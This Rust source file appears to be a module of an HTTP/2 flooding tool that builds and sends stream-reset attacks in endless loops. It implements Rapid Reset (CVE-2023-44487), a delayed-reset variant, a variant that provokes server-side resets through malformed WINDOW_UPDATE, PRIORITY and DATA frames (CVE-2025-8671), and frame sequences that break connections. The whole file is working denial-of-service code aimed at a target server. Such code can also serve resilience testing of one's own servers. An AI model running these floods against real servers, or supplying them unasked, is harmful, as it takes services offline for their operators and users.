//! Streams that end as soon as they have begun, by the client or because of it.

use std::time::Duration;

use tokio::time::sleep;

use super::target::Target;
use crate::corpus::frames::{
    DATA, END_HEADERS, END_STREAM, HEADERS, RST_STREAM, WINDOW_UPDATE, fields, frame, request,
};

const PRIORITY: u8 = 2;

/// CANCEL.
const REASON: [u8; 4] = [0, 0, 0, 8];

/// Streams that are given up in the same packet (CVE-2023-44487).
pub(super) async fn rapid(target: &Target) {
    let batch = |first: u32| {
        let streams = (first..first + 200).step_by(2);
        let pairs = streams.map(|stream| {
            let reset = frame(RST_STREAM, 0, stream, &REASON);
            [request(stream, "GET", "/flood/never"), reset].concat()
        });
        pairs.collect::<Vec<_>>().concat()
    };
    over_and_over(target, batch, 200, 100, Duration::ZERO).await;
}

/// Streams that are given up once the origin works on them.
pub(super) async fn late(target: &Target) {
    while target.goes_on() {
        let Some(mut raw) = target.http2(&[]).await else {
            continue;
        };
        for first in (1..u32::MAX).step_by(200) {
            let streams = (first..first + 200).step_by(2);
            let requests = streams.clone().map(|it| request(it, "GET", "/flood/never"));
            let resets = streams.map(|it| frame(RST_STREAM, 0, it, &REASON));
            let (requests, resets) = (requests.collect::<Vec<_>>(), resets.collect::<Vec<_>>());
            if !target.send(&mut raw, &requests.concat()).await {
                break;
            }
            // The way of a request to the origin.
            sleep(Duration::from_millis(20)).await;
            if raw.is_over() || !target.send(&mut raw, &resets.concat()).await {
                break;
            }
            target.tried(100);
        }
    }
}

/// Streams that the edge itself has to reset, for each of the errors that a client can make on one
/// (CVE-2025-8671).
pub(super) async fn made(target: &Target) {
    let batch = |first: u32| {
        let streams = (first..first + 80).step_by(2).enumerate();
        streams
            .flat_map(|(number, it)| provoked(it, number))
            .collect()
    };
    over_and_over(target, batch, 80, 40, Duration::from_millis(5)).await;
}

/// Requests, and then what ends the connection: a window that grows by nothing, or a body behind its
/// end.
pub(super) async fn broken(target: &Target) {
    let requests = (1..201).step_by(2);
    let requests = requests.map(|it| request(it, "GET", "/flood/never"));
    let requests = requests.collect::<Vec<_>>().concat();
    let ends = [
        frame(WINDOW_UPDATE, 0, 1, &[0; 4]),
        frame(DATA, END_STREAM, 1, b""),
    ];
    for end in ends.iter().cycle() {
        if !target.goes_on() {
            return;
        }
        let Some(mut raw) = target.http2(&[]).await else {
            continue;
        };
        target.send(&mut raw, &requests).await;
        // The way of a request to the origin.
        sleep(Duration::from_millis(20)).await;
        target.send(&mut raw, end).await;
        target.tried(100);
    }
}

/// A request and what its stream has to be reset for.
fn provoked(stream: u32, number: usize) -> Vec<u8> {
    let length = fields(&[
        "*POST /flood/never".to_owned(),
        "content-length = 1".to_owned(),
    ]);
    let head = frame(HEADERS, END_HEADERS, stream, &length);
    let error = match number % 3 {
        // Beyond all windows.
        0 => frame(WINDOW_UPDATE, 0, stream, &[127, 255, 255, 255]),
        // Depends on itself.
        1 => frame(
            PRIORITY,
            0,
            stream,
            &[&stream.to_be_bytes()[..], &[7]].concat(),
        ),
        // More than it said.
        _ => frame(DATA, END_STREAM, stream, b"two"),
    };
    [head, error].concat()
}

/// One batch of streams after the other, on connection after connection.
async fn over_and_over(
    target: &Target,
    batch: impl Fn(u32) -> Vec<u8>,
    step: usize,
    attempts: u64,
    pause: Duration,
) {
    while target.goes_on() {
        let Some(mut raw) = target.http2(&[]).await else {
            continue;
        };
        for first in (1..u32::MAX).step_by(step) {
            if raw.is_over() || !target.send(&mut raw, &batch(first)).await {
                break;
            }
            target.tried(attempts);
            sleep(pause).await;
        }
    }
}
